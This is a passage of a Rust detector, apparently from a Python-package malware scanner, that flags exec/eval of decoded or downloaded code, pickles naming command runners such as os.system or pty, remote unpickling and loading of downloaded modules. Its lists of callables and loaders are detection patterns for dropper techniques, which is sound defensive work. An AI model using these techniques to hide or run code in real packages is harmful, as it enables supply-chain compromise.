//! WH110 dynamic-exec: exec/eval/compile of code that is not a plain literal.

use ruff_python_ast::visitor::{Visitor, walk_expr};
use ruff_python_ast::{self as ast, Expr, ExprCall, Stmt};
use ruff_text_size::Ranged;

use crate::finding::{Category, ExecContext, Rule};
use crate::fold::codec_of;
use crate::walker::{Checker, SourceKind};

/// The detector.
pub const RULE: Rule = Rule {
    id: "WH110",
    name: "dynamic-exec",
    description: "exec, eval or compile runs code built at run time, decoded, or downloaded; a downloaded file is loaded as a module; a pickle naming a command runner is unpickled",
    rationale: "Executing a string hides the real program from readers and scanners. Decoded or \
                downloaded code passed to exec is the signature of droppers; exec of a local version \
                file is a harmless idiom and weighs little.",
    category: Category::Sink,
};

/// Names whose call executes Python source or code objects.
pub fn is_exec(qualname: &str) -> bool {
    matches!(
        qualname,
        "exec"
            | "eval"
            | "execfile"
            | "compile"
            | "runpy.run_path"
            | "runpy.run_module"
            // Profilers, debuggers and the interactive interpreter run the source they are
            // handed as `exec` does.
            | "cProfile.run"
            | "cProfile.runctx"
            | "profile.run"
            | "profile.runctx"
            | "pdb.run"
            | "pdb.runeval"
            | "code.InteractiveInterpreter().runsource"
            | "code.InteractiveInterpreter().runcode"
            | "code.InteractiveConsole().push"
            | "code.InteractiveConsole().runsource"
    )
}

/// True when the expression tree contains a decoding call (base64, zlib, marshal, codecs, ...),
/// anywhere inside it: arguments, comprehensions, subscripts.
pub fn contains_decoding(checker: &Checker, expr: &Expr) -> Option<String> {
    let mut finder = DecodingFinder {
        checker,
        found: None,
        budget: 4_000,
        wrapper_depth: 0,
    };
    finder.visit_expr(expr);
    finder.found
}

struct DecodingFinder<'c, 's> {
    checker: &'c Checker<'s>,
    found: Option<String>,
    budget: usize,
    /// Wrapper functions entered (`_ = lambda s: zlib.decompress(...)`; `exec(_(blob))`).
    wrapper_depth: u32,
}

impl DecodingFinder<'_, '_> {
    /// `pickle.loads(pickle.dumps(x))`, `b64decode(b64encode(x))`: undoing an encoding done in
    /// the same expression is a copy (the deep-copy idiom), and hides nothing.
    fn is_round_trip(&self, call: &ruff_python_ast::ExprCall) -> bool {
        let Some(Expr::Call(inner)) = call.arguments.args.first() else {
            return false;
        };
        let (Some(outer), Some(inner)) = (
            self.checker.qualname(&call.func),
            self.checker.qualname(&inner.func),
        ) else {
            return false;
        };
        // Same module on both sides (`pickle.loads(pickle.dumps(…))`), and the inner call
        // encodes: `b64decode(text.encode('utf-8'))` is no round trip.
        let (Some((outer_module, _)), Some((inner_module, encoder))) =
            (outer.rsplit_once('.'), inner.rsplit_once('.'))
        else {
            return false;
        };
        outer_module == inner_module
            && (matches!(encoder, "dumps" | "compress" | "hexlify" | "encodebytes")
                || (encoder.ends_with("encode") && encoder != "encode"))
    }
}

impl<'a> Visitor<'a> for DecodingFinder<'_, '_> {
    fn visit_expr(&mut self, expr: &'a Expr) {
        if self.found.is_some() || self.budget == 0 {
            return;
        }
        self.budget -= 1;
        match expr {
            Expr::Call(call) => {
                let callee = self.checker.qualname(&call.func);
                // What a compiled pattern matches is the text it is given: the pattern (even
                // one built from decoded constants) is not looked into.
                if callee
                    .as_deref()
                    .is_some_and(crate::walker::is_pattern_method)
                {
                    for argument in &call.arguments.args {
                        self.visit_expr(argument);
                    }
                    for keyword in &call.arguments.keywords {
                        self.visit_expr(&keyword.value);
                    }
                    return;
                }
                if let Some(q) = callee
                    && (codec_of(&q).is_some()
                        || matches!(
                            q.as_str(),
                            "marshal.loads" | "codecs.decode" | "pickle.loads"
                        )
                        || q.ends_with(".decrypt")
                        || super::sources::reads_hidden_image_data(&q))
                    && !self.is_round_trip(call)
                {
                    self.found = Some(q);
                    return;
                }
                // A decoder called by name, or as a method of the class being read
                // (`self.decd(blob)`), as folding sees through both.
                if let Some((callee, _)) = crate::resolve::wrapper_callee(&call.func)
                    && self.wrapper_depth < 4
                    && let Some(wrapper) = self.checker.scopes.wrapper(callee)
                {
                    let mut inner = DecodingFinder {
                        checker: self.checker,
                        found: None,
                        budget: self.budget.min(1_000),
                        wrapper_depth: self.wrapper_depth + 1,
                    };
                    for (_, step) in &wrapper.steps {
                        inner.visit_expr(step);
                    }
                    inner.visit_expr(&wrapper.body);
                    if inner.found.is_some() {
                        self.found = inner.found;
                        return;
                    }
                }
            }
            Expr::Name(name) => {
                if let Some(source) = self.checker.scopes.taint_of(name.id.as_str())
                    && let Some(s) = self
                        .checker
                        .sources
                        .get(source)
                        .filter(|s| s.kind == SourceKind::Decoded)
                {
                    // The name's label says "data decoded by X"; the finding says "decoded by".
                    let label = s
                        .label
                        .strip_prefix(super::sources::DECODED_DATA)
                        .unwrap_or(&s.label);
                    self.found = Some(label.to_owned());
                    return;
                }
            }
            // `IPv6Address(a).packed`, `UUID(u).bytes`: text written as network addresses or
            // identifiers and turned back into bytes, sixteen at a time ("IPfuscation").
            Expr::Attribute(attribute)
                if matches!(attribute.attr.as_str(), "packed" | "bytes" | "bytes_le")
                    && let Expr::Call(inner) = &*attribute.value
                    && let Some(q) = self.checker.qualname(&inner.func)
                    && matches!(
                        q.as_str(),
                        "ipaddress.IPv6Address"
                            | "ipaddress.IPv4Address"
                            | "ipaddress.ip_address"
                            | "uuid.UUID"
                    ) =>
            {
                self.found = Some(format!("{q}().{}", attribute.attr));
                return;
            }
            // Nested functions and lambdas are not evaluated by the exec call itself.
            Expr::Lambda(_) => return,
            _ => {}
        }
        walk_expr(self, expr);
    }
}

/// `open(p).read()`, `Path(p).read_text()` and the like: reading a local file's text.
pub(crate) fn is_file_read(checker: &Checker, expr: &Expr) -> bool {
    let Expr::Call(call) = expr else { return false };
    // `(root / "version.py").read_text()`: the receiver need not resolve to be a file read.
    if let Expr::Attribute(attribute) = &*call.func
        && matches!(attribute.attr.as_str(), "read_text" | "read_bytes")
    {
        return true;
    }
    // `'\n'.join(line for line in f if line.startswith('VERSION'))`: lines of a file, joined.
    if let Expr::Attribute(attribute) = &*call.func
        && attribute.attr.as_str() == "join"
        && matches!(&*attribute.value, Expr::StringLiteral(_))
        && let [
            Expr::Generator(ast::ExprGenerator { generators, .. })
            | Expr::ListComp(ast::ExprListComp { generators, .. }),
        ] = call.arguments.args.as_ref()
        && let [generator] = generators.as_slice()
    {
        return checker.iterates_file_lines(&generator.iter);
    }
    // `next(line for line in f if line.startswith('__version__'))`: one line of a file.
    if let Expr::Name(callee) = &*call.func
        && callee.id.as_str() == "next"
        && let Some(
            Expr::Generator(ast::ExprGenerator { generators, .. })
            | Expr::ListComp(ast::ExprListComp { generators, .. }),
        ) = call.arguments.args.first()
        && let [generator] = generators.as_slice()
    {
        return checker.iterates_file_lines(&generator.iter);
    }
    let Some(q) = checker.qualname(&call.func) else {
        return false;
    };
    // `exec(compile(open(path).read(), path, 'exec'))` is the same idiom with a file name.
    if q == "compile" {
        return call
            .arguments
            .args
            .first()
            .is_some_and(|source| is_file_read(checker, source));
    }
    q.ends_with(".read")
        || q.ends_with(".read_text")
        || q == "open().read"
        || q.starts_with("open()")
}

/// The file name a file read opens (`open(os.path.join(here, 'settings.dat')).read()`,
/// `Path(p).read_text()`, inside `compile(…)` too), when its last component is known.
fn read_file_name(checker: &Checker, expr: &Expr) -> Option<String> {
    let mut value = expr;
    for _ in 0..16 {
        // `open(p).read().split('#--')[1]`: a piece of the file is still its text.
        if let Expr::Subscript(piece) = value {
            value = &piece.value;
            continue;
        }
        let Expr::Call(call) = value else {
            return None;
        };
        if let Some(opened) = checker.opened_path(value) {
            let name = opened.text.rsplit(['/', '\\']).next()?;
            return (!name.is_empty() && !name.contains(crate::fold::UNKNOWN))
                .then(|| name.to_owned());
        }
        value = match (&*call.func, checker.qualname(&call.func).as_deref()) {
            (_, Some("compile")) => call.arguments.args.first()?,
            (Expr::Attribute(method), _) => &method.value,
            _ => return None,
        };
    }
    None
}

/// exec/eval/compile calls.
/// Most docstrings whose examples one doctest call is taken to run.
const MAX_DOCTEST_DOCSTRINGS: usize = 256;

/// The code of the interactive examples in `docstring` (`>>> ` lines and their `... `
/// continuations), one statement per line as doctest runs them.
pub fn doctest_examples(docstring: &str) -> String {
    let mut code = String::new();
    for line in docstring.lines() {
        let line = line.trim_start();
        let statement = line
            .strip_prefix(">>> ")
            .or_else(|| line.strip_prefix("... "))
            .or_else(|| (line == ">>>" || line == "...").then_some(""));
        if let Some(statement) = statement {
            code.push_str(statement);
            code.push('\n');
        }
    }
    code
}

/// `doctest.run_docstring_examples(f, globs)` and `doctest.testmod()` run the examples written
/// in docstrings as code: a payload in a docstring is no documentation then. The examples are
/// analysed as a layer run where the call is.
fn check_doctest_run(checker: &mut Checker, call: &ExprCall, qualname: &str) {
    let docstrings: Vec<&str> = match qualname {
        "doctest.run_docstring_examples" => {
            let Some(Expr::Name(target)) = call.arguments.args.first() else {
                return;
            };
            checker.docstrings_of(target.id.as_str())
        }
        "doctest.testmod" if call.arguments.args.is_empty() => checker
            .defined_names()
            .into_iter()
            .flat_map(|name| checker.docstrings_of(name))
            .take(MAX_DOCTEST_DOCSTRINGS)
            .collect(),
        _ => return,
    };
    let code: String = docstrings.iter().map(|d| doctest_examples(d)).collect();
    if code.trim().is_empty() {
        return;
    }
    checker.push_layer(
        code,
        call.range(),
        format!("docstring examples run by {qualname}"),
    );
}

pub fn check_call(checker: &mut Checker, call: &ExprCall, qualname: &str) {
    check_loads_saved_file(checker, call, qualname);
    check_doctest_run(checker, call, qualname);
    check_hub_code(checker, call, qualname);
    check_unpickle(checker, call, qualname);
    // `list(map(exec, chunks))`: exec called on every item, with no `exec(` in the text.
    if qualname == "map"
        && let [function, items, ..] = call.arguments.args.as_ref()
        && let Some(mapped) = checker.qualname(function)
        && is_exec(&mapped)
    {
        check_executed(checker, call.range(), items, &mapped);
        return;
    }
    if !is_exec(qualname) {
        return;
    }
    let Some(code) = call.arguments.args.first() else {
        return;
    };
    check_executed(checker, call.range(), code, qualname);
}

/// `torch.hub.load('owner/repo:branch', …, trust_repo=True)` runs the repository's
/// `hubconf.py`; `AutoModel.from_pretrained(repo, trust_remote_code=True)` runs the model
/// repository's Python files. Whoever can push to that repository runs code in this process:
/// a second stage kept on a model hub. Libraries do it when their user asks for a model; a
/// package doing it while it installs or loads, from a branch rather than a pinned tag,
/// fetches and runs code on its own.
fn check_hub_code(checker: &mut Checker, call: &ExprCall, qualname: &str) {
    let hub = qualname == "torch.hub.load"
        && !super::keyword(call, "source")
            .is_some_and(|v| matches!(v, Expr::StringLiteral(s) if s.value.to_str() == "local"));
    let remote_code = qualname.ends_with(".from_pretrained")
        && super::keyword(call, "trust_remote_code")
            .is_some_and(|v| matches!(v, Expr::BooleanLiteral(b) if b.value));
    if !hub && !remote_code {
        return;
    }
    let repository = call
        .arguments
        .args
        .first()
        .or_else(|| super::keyword(call, "repo_or_dir"))
        .or_else(|| super::keyword(call, "pretrained_model_name_or_path"))
        .and_then(|repo| checker.fold(repo))
        .and_then(|v| v.as_text());
    // `pytorch/vision:v0.17.2`: a tag names a release someone reviewed; a branch (or none)
    // runs whatever the repository holds today.
    let pinned = repository.as_deref().is_some_and(|repo| {
        repo.rsplit_once(':').is_some_and(|(_, reference)| {
            reference.starts_with('v')
                && reference.chars().nth(1).is_some_and(|c| c.is_ascii_digit())
        })
    }) || super::keyword(call, "revision").is_some_and(|revision| {
        checker
            .fold(revision)
            .and_then(|v| v.as_text())
            .is_some_and(|r| r.len() == 40 && r.chars().all(|c| c.is_ascii_hexdigit()))
    });
    let context = checker.context();
    let severity = match context {
        ExecContext::Install | ExecContext::Import if pinned => 0.2,
        ExecContext::Install | ExecContext::Import if repository.is_some() => 0.7,
        ExecContext::Install | ExecContext::Import => 0.45,
        ExecContext::Runtime => 0.03,
        ExecContext::TestOrDocs => 0.01,
    };
    let what = if hub {
        "runs the hubconf.py of the model repository"
    } else {
        "runs the Python files of the model repository"
    };
    checker.report(
        &RULE,
        call.range(),
        format!(
            "{qualname} {what} `{}`{} {}",
            crate::text::shorten(repository.as_deref().unwrap_or("computed at run time"), 100),
            if pinned { ", pinned to a release" } else { "" },
            context.phrase()
        ),
        severity,
        vec!["exec", "hub-code"],
    );
}

/// Callables a pickle can name that run commands or code when `loads` calls them.
pub(crate) fn is_dangerous_pickled_callable(name: &str) -> bool {
    let (module, function) = name.rsplit_once('.').unwrap_or(("", name));
    match module {
        "os" | "posix" | "nt" => matches!(
            function,
            "system"
                | "popen"
                | "execv"
                | "execve"
                | "execl"
                | "execlp"
                | "execvp"
                | "spawnv"
                | "spawnl"
                | "startfile"
        ),
        "subprocess" => true,
        "builtins" | "__builtin__" => matches!(
            function,
            "exec" | "eval" | "compile" | "__import__" | "getattr" | "open"
        ),
        "runpy" | "pty" | "commands" | "webbrowser" => true,
        _ => false,
    }
}

/// `jsonpickle.decode(text)`, `yaml.load(text, Loader=yaml.Loader)` of a constant document
/// whose tags call a command or code runner (see
/// [`super::pickled_payload::tagged_document_call`]): a pickle in other clothes.
fn check_tagged_document(checker: &mut Checker, call: &ExprCall, qualname: &str) {
    if !matches!(
        qualname,
        "jsonpickle.decode"
            | "jsonpickle.loads"
            | "yaml.load"
            | "yaml.load_all"
            | "yaml.unsafe_load"
            | "yaml.unsafe_load_all"
            | "yaml.full_load"
    ) {
        return;
    }
    let Some((callable, argument)) = call
        .arguments
        .args
        .first()
        .and_then(|text| checker.fold(text))
        .and_then(|value| value.as_text())
        .and_then(|text| super::pickled_payload::tagged_document_call(&text))
    else {
        return;
    };
    report_embedded_call(
        checker,
        call,
        format!(
            "{qualname} loads an embedded document that calls {callable}(`{}`)",
            crate::text::shorten(&argument, 120)
        ),
    );
}

/// An embedded pickle or document that calls a command or code runner when loaded: hidden
/// code whenever it runs, a fixture among tests.
fn report_embedded_call(checker: &mut Checker, call: &ExprCall, message: String) {
    let severity = match checker.context() {
        ExecContext::Install | ExecContext::Import => 0.9,
        ExecContext::Runtime => 0.75,
        ExecContext::TestOrDocs => 0.3,
    };
    checker.report(
        &RULE,
        call.range(),
        message,
        severity,
        vec!["exec", "pickle-call"],
    );
}

/// `pickle.loads(blob)`: unpickling calls whatever callables the pickle names, with the
/// arguments it carries, so an embedded pickle naming `os.system` is a hidden command and one
/// naming `builtins.exec` hidden code (analysed as a layer). The pickle is read opcode by
/// opcode ([`crate::pickle`]), never loaded. A pickle received from the network runs what the
/// server sends.
fn check_unpickle(checker: &mut Checker, call: &ExprCall, qualname: &str) {
    check_tagged_document(checker, call, qualname);
    let (module, function) = qualname.rsplit_once('.').unwrap_or(("", qualname));
    if !matches!(function, "loads" | "load" | "_loads")
        || !matches!(
            module,
            "pickle" | "cPickle" | "_pickle" | "dill" | "cloudpickle"
        )
    {
        check_unpickling_loader(checker, call, qualname);
        return;
    }
    let Some(argument) = call.arguments.args.first() else {
        return;
    };
    if let Some(contents) = checker
        .fold(argument)
        .and_then(|value| value.as_bytes())
        .and_then(|bytes| crate::pickle::read(&bytes))
    {
        let Some(callable) = contents
            .callables
            .iter()
            .find(|c| is_dangerous_pickled_callable(c))
        else {
            return;
        };
        let argument_text = contents.strings.last().cloned().unwrap_or_default();
        if callable.ends_with(".exec") || callable.ends_with(".eval") {
            checker.push_layer(
                argument_text.clone(),
                call.range(),
                format!("pickled argument of {callable}"),
            );
        }
        report_embedded_call(
            checker,
            call,
            format!(
                "{qualname} unpickles an embedded pickle that calls {callable}(`{}`)",
                crate::text::shorten(&argument_text, 120)
            ),
        );
        return;
    }
    // `pickle.loads(pickle.dumps(response))` copies an object the code already holds.
    let round_trip = matches!(argument, Expr::Call(inner)
        if checker.qualname(&inner.func).is_some_and(|q| q.ends_with(".dumps")));
    if round_trip {
        return;
    }
    if let Some(source) = checker.network_source_in(argument) {
        report_remote_unpickle(checker, call, qualname, &source.label);
    }
}

/// Library loaders that unpickle what they read: `joblib.load`, `torch.load` (unless
/// `weights_only=True`), `numpy.load(…, allow_pickle=True)`, `pandas.read_pickle`.
fn unpickles_through_library(call: &ExprCall, qualname: &str) -> bool {
    let flag = |name: &str| {
        super::keyword(call, name).is_some_and(|v| matches!(v, Expr::BooleanLiteral(b) if b.value))
    };
    match qualname {
        "joblib.load" | "pandas.read_pickle" | "sklearn.externals.joblib.load" => true,
        "torch.load" => !flag("weights_only"),
        "numpy.load" => flag("allow_pickle"),
        _ => false,
    }
}

/// `pandas.read_pickle('https://…')`, `torch.load(io.BytesIO(requests.get(url).content))`:
/// a model or table unpickled from the network runs whatever callables the server names.
/// Loading a local file is what these libraries are for, and is left alone.
fn check_unpickling_loader(checker: &mut Checker, call: &ExprCall, qualname: &str) {
    if !unpickles_through_library(call, qualname) {
        return;
    }
    let Some(argument) = call
        .arguments
        .args
        .first()
        .or_else(|| super::keyword(call, "filepath_or_buffer"))
        .or_else(|| super::keyword(call, "f"))
    else {
        return;
    };
    // The data, the response object itself (`joblib.load(urlopen(url))` reads it), or the
    // address (`read_pickle` fetches URLs).
    let origin = if let Some(source) = checker.network_source_in(argument) {
        source.label
    } else if let Some((label, SourceKind::Network)) =
        super::sources::response_object(checker, argument)
    {
        label
    } else {
        match checker.fold(argument).and_then(|v| v.as_text()) {
            Some(url) if url.starts_with("http://") || url.starts_with("https://") => {
                crate::text::shorten(&url, 100)
            }
            _ => return,
        }
    };
    report_remote_unpickle(checker, call, qualname, &origin);
}

/// An unpickling of what `origin` (a response, an address) sends: the sender picks the calls.
fn report_remote_unpickle(checker: &mut Checker, call: &ExprCall, qualname: &str, origin: &str) {
    let severity = match checker.context() {
        ExecContext::Install | ExecContext::Import => 0.85,
        ExecContext::Runtime => 0.3,
        ExecContext::TestOrDocs => 0.1,
    };
    checker.report(
        &RULE,
        call.range(),
        format!(
            "{qualname} unpickles data received from the network ({origin}), which runs any callable the sender names"
        ),
        severity,
        vec!["exec", "pickle-remote"],
    );
}

/// The argument of a call that runs or imports a Python file by path: `runpy.run_path(p)`,
/// `importlib.util.spec_from_file_location(name, p)` (then `exec_module`), `imp.load_source(name,
/// p)`, `SourceFileLoader(name, p)`, `execfile(p)`.
fn loaded_path<'c>(call: &'c ExprCall, qualname: &str) -> Option<&'c Expr> {
    let (position, keyword) = match qualname {
        "runpy.run_path" | "execfile" => (0, "path_name"),
        "importlib.util.spec_from_file_location"
        | "imp.load_source"
        | "imp.load_compiled"
        | "importlib.machinery.SourceFileLoader"
        // Bytecode and native modules run as they load, with no source to read.
        | "importlib.machinery.SourcelessFileLoader"
        | "importlib.machinery.ExtensionFileLoader" => (1, "location"),
        // The program every child process of the pool is started with.
        "multiprocessing.set_executable" | "multiprocessing.get_context().set_executable" => {
            (0, "executable")
        }
        // A native library runs its initialisers as it loads: a downloaded DLL loaded
        // through ctypes is a dropped program started inside this process.
        "ctypes.CDLL"
        | "ctypes.WinDLL"
        | "ctypes.PyDLL"
        | "ctypes.OleDLL"
        | "ctypes.cdll.LoadLibrary"
        | "ctypes.windll.LoadLibrary"
        | "ctypes.pydll.LoadLibrary"
        | "ctypes.windll.kernel32.LoadLibraryA"
        | "ctypes.windll.kernel32.LoadLibraryW" => (0, "name"),
        // SQLite loads an extension library into the process and calls its entry point.
        "sqlite3.connect().load_extension" | "sqlite3.Connection().load_extension" => (0, "path"),
        // A connection handed in as a parameter (`def load(conn): conn.load_extension(p)`):
        // the method name is SQLite's alone.
        q if q.ends_with(".load_extension") && !q.contains('(') => (0, "path"),
        // The modules of a zip archive run as they are loaded from it; one put on the import
        // path runs at the next import of a name it holds.
        "zipimport.zipimporter" | "sys.path.append" => (0, "path"),
        "sys.path.insert" => (1, "path"),
        _ => return None,
    };
    call.arguments
        .args
        .get(position)
        .or_else(|| super::keyword(call, keyword))
        .or_else(|| super::keyword(call, "path"))
}

/// `urlretrieve(url, '/tmp/m.py')` then `spec_from_file_location('m', '/tmp/m.py')` and
/// `exec_module`: the module runs a file it just downloaded or wrote Python into, as a process
/// start of it would (WH120's runs-saved-file), only inside this interpreter.
fn check_loads_saved_file(checker: &mut Checker, call: &ExprCall, qualname: &str) {
    let (saved, text) = if let Some(path) = loaded_path(call, qualname) {
        let text = super::partial_text(checker, path).unwrap_or_default();
        let Some(saved) = checker.saved_file_in(&text, Some(path)).cloned() else {
            note_native_load(checker, call, qualname, &text);
            return;
        };
        (saved, text)
    } else if let Some(module) = imported_module_file(checker, call, qualname) {
        // `importlib.import_module('_svc')` after writing a download to `…/_svc.py` (or a
        // native `_svc.pyd`/`.so`) on the path: the module runs the file it saved.
        let endings: Vec<String> = ["py", "pyd", "so", "pyc"]
            .iter()
            .map(|extension| format!("{module}.{extension}"))
            .collect();
        // Only a download: generators write Python and import it by name as a matter of
        // course (pyarmor's benchmark, code generators, test harnesses).
        let Some(saved) = checker
            .saved_file_ending(&endings)
            .filter(|saved| saved.what != crate::walker::SavedFile::PYTHON_SOURCE)
            .cloned()
        else {
            return;
        };
        (saved, module)
    } else {
        return;
    };
    let (message, severity) =
        super::process_spawn::runs_saved_file(&saved, qualname, &text, checker.context());
    checker.report(
        &RULE,
        call.range(),
        if qualname.ends_with("set_executable") {
            message
        } else {
            message.replacen(" starts `", " loads as code `", 1)
        },
        severity,
        vec!["exec", "runs-saved-file"],
    );
}

/// `ctypes.CDLL(os.path.join(here, 'terminate.dll'))` while the package installs or loads:
/// a library of the package's own, started inside the interpreter. Alone it is what many
/// bindings do (a hint); the package score counts it in full when the library is a compiled
/// program shipped in the sdist (`combo:runs-shipped-binary`), the termncolor/colorinal shape.
fn note_native_load(checker: &mut Checker, call: &ExprCall, qualname: &str, path: &str) {
    if !is_native_loader(qualname) {
        return;
    }
    let severity = match checker.context() {
        ExecContext::Install => NATIVE_LOAD_INSTALL_WEIGHT,
        ExecContext::Import => NATIVE_LOAD_IMPORT_WEIGHT,
        ExecContext::Runtime | ExecContext::TestOrDocs => return,
    };
    let Some(file) = path
        .rsplit(['/', '\\'])
        .next()
        .filter(|file| file.contains('.') && file.chars().count() >= 4)
    else {
        return;
    };
    checker.report(
        &RULE,
        call.range(),
        format!("{qualname} loads the native library `{file}` into the interpreter"),
        severity,
        vec!["native-load"],
    );
}

/// Weight of a response run as code by a documentation folder's `conf.py`.
pub const DOCS_BUILD_NETWORK_EXEC_WEIGHT: f64 = 0.3;

/// `payload['source']`, or a name the file binds to one (`source = payload['source']`): one
/// field of a record, not a whole decoded text.
fn is_record_field(text: &str, code: &Expr) -> bool {
    match code {
        Expr::Subscript(subscript) => matches!(&*subscript.slice, Expr::StringLiteral(_)),
        Expr::Name(name) => {
            let name = name.id.as_str();
            name.len() <= 64
                && regex::Regex::new(&format!(
                    r#"(?m)^\s*{name}\s*=\s*\w+\[\s*["'][\w-]+["']\s*\]\s*$"#
                ))
                .is_ok_and(|binding| binding.is_match(text))
        }
        _ => false,
    }
}

/// Weight of a field of a record a function decodes from what its caller hands it, run as
/// code when called.
pub const DECODED_ARGUMENT_RUNTIME_WEIGHT: f64 = 0.3;

/// Weight of code decoded from a template whose payload is still a build placeholder.
pub const UNFILLED_TEMPLATE_WEIGHT: f64 = 0.45;

/// True when the file assigns a string literal that is nothing but a build placeholder
/// (`X = "@VERSIONEER-INSTALLER@"`, the same in triple quotes over three lines), which a build
/// step replaces.
fn carries_build_placeholder(text: &str) -> bool {
    static PLACEHOLDER: std::sync::LazyLock<regex::Regex> = crate::static_regex!(
        r#"=\s*[rbu]?("""|'''|"|')\s*@[A-Z][A-Z0-9_-]{2,64}@\s*("""|'''|"|')"#
    );
    PLACEHOLDER.is_match(text)
}

/// Weight of code decoded from a local file and run by a function when called.
pub const DECODED_FILE_RUNTIME_WEIGHT: f64 = 0.45;

/// `open(p).read()`, `fh.read()` of a handle `with open(p) as fh` bound, a slice of either, or
/// a name holding one: bytes read from a local file.
pub(crate) fn reads_local_file(checker: &Checker, expr: &Expr) -> bool {
    match expr {
        Expr::Name(name) => checker
            .scopes
            .taint_of(name.id.as_str())
            .and_then(|source| checker.sources.get(source))
            .is_some_and(|source| source.kind == SourceKind::FileContent),
        Expr::Subscript(subscript) => reads_local_file(checker, &subscript.value),
        Expr::Call(_) => is_file_read(checker, expr),
        _ => false,
    }
}

/// Weight of a package-relative native library loaded while installing.
pub const NATIVE_LOAD_INSTALL_WEIGHT: f64 = 0.15;
/// Weight of one loaded while the package is imported.
pub const NATIVE_LOAD_IMPORT_WEIGHT: f64 = 0.1;

/// True for the ctypes loaders of [`loaded_path`].
fn is_native_loader(qualname: &str) -> bool {
    qualname.starts_with("ctypes.")
}

/// `/name` for `importlib.import_module('name')` or `__import__('name')` of a constant module
/// name (`/pkg/mod` for `pkg.mod`): the file such an import would load, less its extension.
fn imported_module_file(checker: &Checker, call: &ExprCall, qualname: &str) -> Option<String> {
    if !matches!(
        qualname,
        "importlib.import_module" | "__import__" | "runpy.run_module"
    ) {
        return None;
    }
    let name = checker.fold(call.arguments.args.first()?)?.as_text()?;
    let valid = !name.is_empty()
        && name.len() <= 200
        && name
            .split('.')
            .all(|part| !part.is_empty() && part.chars().all(|c| c.is_alphanumeric() || c == '_'));
    valid.then(|| format!("/{}", name.replace('.', "/")))
}

fn check_executed(
    checker: &mut Checker,
    range: ruff_text_size::TextRange,
    code: &Expr,
    qualname: &str,
) {
    // `eval(compile('def _raise(*a): raise a[0], a[1], a[2]', '<py3fix>', 'exec'))`: what runs
    // is the readable literal compiled, weighed as that text (bottle's Python 2 shim). An
    // aliased `compile` or an escaped literal (BlankOBF's `_c("\x5f\x5f…")`) is still hiding.
    let code = match code {
        Expr::Call(inner)
            if qualname != "compile"
                && matches!(&*inner.func, Expr::Name(name) if name.id.as_str() == "compile")
                && checker.qualname(&inner.func).as_deref() == Some("compile")
                && let Some(text) = inner.arguments.args.first()
                && plain_literal_is_readable(checker, text) =>
        {
            text
        }
        other => other,
    };
    let context = checker.context();
    let weak_context = matches!(context, ExecContext::Runtime | ExecContext::TestOrDocs);
    let plain_literal = matches!(code, Expr::StringLiteral(_) | Expr::BytesLiteral(_));
    let folded = checker.fold(code).and_then(|v| v.as_text());
    if let Some(decoder) = contains_decoding(checker, code) {
        if let Some(text) = &folded {
            checker.push_layer(
                text.clone(),
                range,
                format!("decoded by {decoder} and passed to {qualname}"),
            );
        }
        let from_file = decoder.ends_with(super::sources::LOCAL_FILE_SUFFIX);
        // versioneer's installer template: `b64decode("@VERSIONEER-INSTALLER@")` until its
        // build substitutes the encoded module. A placeholder decodes to nothing Python could
        // run; the built file is another file.
        let unfilled_template = folded.is_none() && carries_build_placeholder(checker.text);
        let severity = match context {
            ExecContext::TestOrDocs => 0.5,
            _ if unfilled_template => UNFILLED_TEMPLATE_WEIGHT,
            // A function unpacking a file into code when asked is how caches of compiled
            // code load (a schema validator's marshalled functions, an encrypted notebook
            // export); a payload parked in a data file runs while installing or importing,
            // and a file of the package named in the code is analysed as a layer anyway.
            ExecContext::Runtime if from_file => DECODED_FILE_RUNTIME_WEIGHT,
            // `def deserialize_function(serialized): … exec(payload['source'], ns)`: a function
            // running one field of a serialized record its caller hands it. A hidden payload is
            // the decoded text itself (`exec(b64decode(blob))`), which keeps its weight.
            ExecContext::Runtime
                if is_record_field(checker.text, code) && checker.holds_opaque_decoding(code) =>
            {
                DECODED_ARGUMENT_RUNTIME_WEIGHT
            }
            _ => 0.9,
        };
        checker.report(
            &RULE,
            range,
            format!("{qualname} runs code decoded by {decoder}"),
            severity,
            vec!["exec-decoded"],
        );
        return;
    }
    if let Some(text) = folded {
        if qualname == "compile" {
            // What is compiled is run next (`FunctionType(code, globals())()`, `exec(code)`):
            // its text is analysed like a file, with no weight of its own for the compile.
            checker.push_layer(text, range, format!("a string passed to {qualname}"));
            return;
        }
        if qualname == "eval" && text.len() < 40 && !text.contains('(') {
            // `eval("exec")` fetches a builtin by name: a classic obfuscator opening move.
            let looks_like_name = text
                .chars()
                .all(|c| c.is_alphanumeric() || c == '_' || c == '.');
            let builtin = matches!(
                text.as_str(),
                "exec" | "eval" | "compile" | "__import__" | "getattr" | "globals" | "open"
            );
            if qualname == "eval"
                && looks_like_name
                && builtin
                && !plain_literal_is_readable(checker, code)
            {
                checker.report(
                    &super::import_obfuscation::RULE,
                    range,
                    format!("eval fetches the builtin `{text}` from an encoded string"),
                    if weak_context { 0.3 } else { 0.55 },
                    vec!["obfuscation", "indirect-builtin"],
                );
            }
            return;
        }
        // The assembled code is analysed as a layer, so its own behaviour is weighed there; the
        // exec itself weighs by how the text was hidden: chr() lists and reversals are obfuscation,
        // templates of literals are not.
        let hidden = !plain_literal && builds_from_characters(checker, code);
        let severity = match (plain_literal, hidden, weak_context) {
            (true, _, _) => 0.05,
            (false, true, false) => 0.5,
            (false, true, true) => 0.15,
            (false, false, false) => 0.2,
            (false, false, true) => 0.05,
        };
        let how = if plain_literal {
            "a string literal"
        } else if hidden {
            "a string rebuilt from character codes or reversed text"
        } else {
            "a string assembled from constants"
        };
        checker.push_layer(text, range, format!("{how} passed to {qualname}"));
        let tags = if hidden {
            vec!["exec-constant", "obfuscation"]
        } else {
            vec!["exec-constant"]
        };
        checker.report(
            &RULE,
            range,
            format!("{qualname} runs {how}"),
            severity,
            tags,
        );
        return;
    }
    // `for package, statement in backports.items(): exec(statement)`: each listed text is run,
    // and each is analysed like a literal passed here.
    if qualname != "compile"
        && let Expr::Name(looped) = code
        && let Some(texts) = checker
            .loop_domain(looped.id.as_str())
            .map(<[String]>::to_vec)
    {
        for text in texts.iter().take(16) {
            checker.push_layer(
                text.clone(),
                range,
                format!(
                    "one of the strings `{}` takes, passed to {qualname}",
                    looped.id
                ),
            );
        }
        checker.report(
            &RULE,
            range,
            format!(
                "{qualname} runs each of {} listed strings (analysed as layers)",
                texts.len()
            ),
            if weak_context { 0.02 } else { 0.05 },
            vec!["exec-constant"],
        );
        return;
    }
    // Code that carries network data runs what the server sent, whatever else is mixed in.
    let found = checker.source_in(code);
